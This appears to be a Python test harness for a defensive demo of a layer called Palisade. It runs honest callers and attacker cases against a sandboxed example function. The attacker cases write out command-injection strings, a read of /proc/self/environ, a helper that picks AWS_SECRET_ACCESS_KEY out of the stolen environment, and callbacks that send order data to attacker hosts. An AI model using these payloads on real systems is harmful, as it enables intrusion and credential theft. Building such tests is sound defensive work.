"""The example function and those who call it: the events of the demo, and how each of them shows that it came through."""

import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from harness.emulator import Emulator
from harness.paths import EXAMPLE


@dataclass
class Case:
    """One caller. `success` looks at the answer and says what the caller got, or None for nothing."""

    title: str
    event: dict
    success: Callable
    audit_type: str = ""
    """The type of the audit record that a refusal leaves; empty for a caller whom nobody should refuse."""

    @property
    def honest(self):
        return not self.audit_type


@dataclass
class Outcome:
    """What came of a case: what the caller got (None for nothing), the function's answer, the audit records it left."""

    got: str
    answer: object
    audits: list


def cases(world, loot):
    """The honest callers, then the attackers. `loot` is a path that a successful `os.system` attack leaves a file at."""
    partner = world.sandbox.partner
    found = [
        Case("asks for an order", {"action": "status", "order": "A-1001"}, lambda body: body.get("total")),
        Case(f"has {partner.name} told", order_to(world, partner), lambda body: body.get("answer")),
        Case(
            "injects a command: subprocess.run(shell=True)",
            {"action": "search", "text": "x'; id; '"},
            lambda body: next((line for line in body.get("lines", []) if "uid=" in line), None),
            "process",
        ),
        Case(
            "injects a command: os.system",
            {"action": "label", "order": f"x'; id > {loot}; '"},
            lambda body: take_loot(loot),
            "process",
        ),
        Case(
            "reads /proc/self/environ",
            {"action": "document", "name": "/proc/self/environ"},
            lambda body: credential(body.get("text", "")),
            "filesystem",
        ),
    ]
    for host, kind in ((world.sandbox.attacker_by_name, "dns"), (world.sandbox.attacker_by_number, "network")):
        if host:
            found.append(theft(world, host, kind))
    return found


def order_to(world, host):
    """The event that has an order sent to a host."""
    return {"action": "notify", "order": "A-1001", "callback": world.url(host)}


def theft(world, host, kind):
    """An attacker who has an order sent to a host of his own. It has succeeded when something arrives there."""

    def arrived(_):
        received = world.take_received(host)
        return f"{len(received)} bytes of an order arrived" if received else None

    return Case(f"sends an order to {host.name}", order_to(world, host), arrived, kind)


def take_loot(loot):
    """What the attacker's command wrote, taken away so that the next run starts without it."""
    path = Path(loot)
    if not path.exists():
        return None
    text = path.read_text().strip()
    path.unlink()
    return text


def credential(environment):
    """The secret in a stolen environment."""
    secrets = (each for each in environment.split("\0") if each.startswith("AWS_SECRET_ACCESS_KEY="))
    return next(secrets, None)


def play(world, defended):
    """Runs every case in one function, with or without Palisade: the cases with their outcomes, and the function."""
    world.layout.lay_function(EXAMPLE)
    world.layout.lay_layer()
    with tempfile.TemporaryDirectory(prefix="palisade-") as folder:
        wrapper = world.layout.wrapper if defended else None
        with Emulator(world.layout, policy_by_path(world, defended), wrapper) as function:
            played = []
            seen = 0
            for case in cases(world, f"{folder}/loot"):
                answer = function.invoke(case.event)
                body = answer.body if isinstance(answer.body, dict) else {}
                audits = function.audits(seen + (0 if case.honest else 1)) if defended else []
                played.append((case, Outcome(case.success(body), answer, audits[seen:])))
                seen = len(audits)
        return played, function


def policy_by_path(world, defended):
    """/var/task/palisade.json is found by itself; in a tree under `target/` it has to be named."""
    if world.sandbox.isolated or not defended:
        return {}
    return {"PALISADE_POLICY_FILE": str(world.layout.task / "palisade.json")}
